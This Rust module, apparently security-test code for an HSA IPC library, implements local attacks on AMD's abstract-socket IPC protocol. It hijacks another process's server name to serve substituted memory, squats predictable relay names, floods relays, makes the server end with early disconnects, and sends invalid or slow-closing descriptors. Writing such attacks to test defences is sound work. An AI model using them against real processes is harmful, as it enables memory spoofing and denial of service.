//! Attacks of a hostile process on AMD's protocol for IPC. The protocol uses abstract sockets named `hsa<process>`.

use hsa_vmm::ipc::IpcHandle;
use rustix::net::sockopt::set_socket_linger;
use rustix::net::{
    RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer,
    SendAncillaryMessage, SendFlags, recvmsg, sendmsg,
};
use std::io::{IoSlice, IoSliceMut, Read, Write};
use std::mem::MaybeUninit;
use std::net::{TcpListener, TcpStream};
use std::os::fd::{AsFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

const TIME_LIMIT: Duration = Duration::from_secs(20);
/// The size of a request to AMD's server, in bytes.
const REQUEST_SIZE: usize = 64;
/// Every process ID is smaller than this number (`PID_MAX_LIMIT`).
const PROCESS_NUMBER_LIMIT: i64 = 1 << 22;
/// The request that ends AMD's server.
const END_REQUEST: u64 = u64::MAX;

fn server_address(process: i32) -> SocketAddr {
    // AMD's runtime pads the abstract name with zeros to its greatest size.
    let mut name = [0; 107];
    let text = format!("hsa{process}");
    name[..text.len()].copy_from_slice(text.as_bytes());
    SocketAddr::from_abstract_name(name).expect("short enough")
}

fn connect(process: i32) -> std::io::Result<UnixStream> {
    UnixStream::connect_addr(&server_address(process))
}

fn request(pointer: u64) -> [u8; REQUEST_SIZE] {
    let mut request = [0; REQUEST_SIZE];
    let text = pointer.to_string();
    request[..text.len()].copy_from_slice(text.as_bytes());
    request
}

/// Returns the address that a handle requests from AMD's server.
pub fn requested_address(handle: &IpcHandle) -> u64 {
    u64::from_le_bytes(handle.to_bytes()[..8].try_into().expect("eight bytes"))
}

/// Fetches the memory of a handle from AMD's server in the exporter.
fn fetch(handle: &IpcHandle) -> OwnedFd {
    let (mut stream, descriptor) =
        request_memory(handle.process, requested_address(handle)).expect("a descriptor");
    stream.write_all(&request(0)).expect("the server waits for a second request");
    descriptor
}

/// Fetches the memory at an address from AMD's server. Returns `None` if there is no server, or if the server sends
/// nothing. The server holds its lock until the caller writes an acknowledgement to the returned connection, or closes
/// the connection.
pub fn request_memory(process: i32, pointer: u64) -> Option<(UnixStream, OwnedFd)> {
    let mut stream = connect(process).ok()?;
    stream.write_all(&request(pointer)).expect("the server reads");
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = RecvAncillaryBuffer::new(&mut space);
    let mut bytes = [0];
    let mut parts = [IoSliceMut::new(&mut bytes)];
    recvmsg(&stream, &mut parts, &mut control, RecvFlags::CMSG_CLOEXEC).expect("a reply");
    let descriptor = control.drain().find_map(|message| match message {
        RecvAncillaryMessage::ScmRights(mut descriptors) => descriptors.next(),
        _ => None,
    });
    descriptor.map(|descriptor| (stream, descriptor))
}

fn send_descriptor(stream: &UnixStream, descriptor: impl AsFd) {
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    let descriptors = [descriptor.as_fd()];
    assert!(control.push(SendAncillaryMessage::ScmRights(&descriptors)));
    // The other end may have disconnected.
    let _ = sendmsg(stream, &[IoSlice::new(b"y")], &mut control, SendFlags::NOSIGNAL);
}

fn bind_name(process: i32) -> UnixListener {
    let begun = Instant::now();
    loop {
        match UnixListener::bind_addr(&server_address(process)) {
            Ok(listener) => return listener,
            Err(error) if begun.elapsed() > TIME_LIMIT => panic!("hsa{process}: {error}"),
            Err(_) => std::thread::sleep(Duration::from_millis(1)),
        }
    }
}

/// Ends the server of another process, and binds its name. From then on, sends the memory of the handle `own` to every
/// client.
pub fn replace_server(process: i32, own: &IpcHandle) {
    let mut stream = connect(process).expect("a server");
    stream.write_all(&request(END_REQUEST)).expect("the server reads");
    drop(stream);
    let listener = bind_name(process);
    let memory = fetch(own);
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let mut request = [0; REQUEST_SIZE];
            // A library that checks the server disconnects without a request.
            if stream.read(&mut request).is_ok_and(|read| read > 0) {
                send_descriptor(&stream, &memory);
                let _ = stream.read(&mut request);
            }
        }
    });
}

/// Binds the names that the relays of a process would have if they were not random. A relay is a server in the
/// importer's process, which `src/ipc/server_client.rs` starts for one call.
pub fn bind_relay_names(process: i32) {
    let names = (0..128)
        .map(|attempt| bind_name((1 << 30) | (attempt * PROCESS_NUMBER_LIMIT as i32) | process));
    std::mem::forget(names.collect::<Vec<_>>());
}

/// Zero until `connect_to_relays` has connected to a relay.
pub static CONNECTIONS: AtomicUsize = AtomicUsize::new(0);

/// Connects to all relays of other processes repeatedly, until this process ends.
pub fn connect_to_relays() {
    std::thread::spawn(|| {
        let mut connected = Vec::new();
        loop {
            let sockets = std::fs::read("/proc/net/unix").expect("/proc is mounted");
            let sockets = String::from_utf8_lossy(&sockets);
            let numbers = sockets.lines().filter_map(|line| {
                // The last of eight columns is the name.
                let name = line.split_whitespace().nth(7)?.trim_end_matches('@');
                let number: i64 = name.strip_prefix("@hsa")?.parse().ok()?;
                // Skips AMD's own servers, whose numbers are process IDs.
                (!(0..PROCESS_NUMBER_LIMIT).contains(&number)).then_some(number as i32)
            });
            for number in numbers {
                let streams: Vec<_> = (0..8).filter_map(|_| connect(number).ok()).collect();
                CONNECTIONS.fetch_add(streams.len(), Ordering::Relaxed);
                connected.extend(streams);
            }
            let excess = connected.len().saturating_sub(64);
            connected.drain(..excess);
        }
    });
}

/// Requests memory from AMD's server and disconnects without reading the reply, up to `times` times. If a client
/// disconnects after the reply was sent, the server ends, and this function returns early.
pub fn disconnect_before_reply(handle: &IpcHandle, times: usize) {
    for _ in 0..times {
        let Ok(mut stream) = connect(handle.process) else { return };
        // The write fails if the server has ended before it accepted the connection.
        let _ = stream.write_all(&request(requested_address(handle)));
    }
}

/// Listens at the socket name of this process. Sends each client a descriptor that is not memory, and disconnects at
/// once.
pub fn send_invalid_descriptor() {
    let listener = bind_name(std::process::id() as i32);
    std::thread::spawn(move || {
        let null = std::fs::File::open("/dev/null").expect("/dev/null exists");
        while let Ok((mut stream, _)) = listener.accept() {
            if stream.read(&mut [0; REQUEST_SIZE]).is_ok_and(|read| read > 0) {
                send_descriptor(&stream, &null);
            }
        }
    });
}

/// The time for which the last close of a descriptor from [`send_slow_descriptor`] blocks.
pub const CLOSE_TIME: Duration = Duration::from_secs(60);

/// Listens at the socket name of this process. Sends each client a socket whose last close blocks, because nobody
/// reads the data in the socket.
pub fn send_slow_descriptor() {
    let listener = bind_name(std::process::id() as i32);
    std::thread::spawn(move || {
        let peers = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let address = peers.local_addr().expect("the listener is bound");
        while let Ok((mut stream, _)) = listener.accept() {
            if stream.read(&mut [0; REQUEST_SIZE]).is_ok_and(|read| read > 0) {
                let mut socket = TcpStream::connect(address).expect("the listener listens");
                socket.set_nonblocking(true).expect("an open socket");
                while socket.write(&[0; 4096]).is_ok() {}
                socket.set_nonblocking(false).expect("an open socket");
                set_socket_linger(&socket, Some(CLOSE_TIME)).expect("an open socket");
                send_descriptor(&stream, &socket);
            }
        }
    });
}
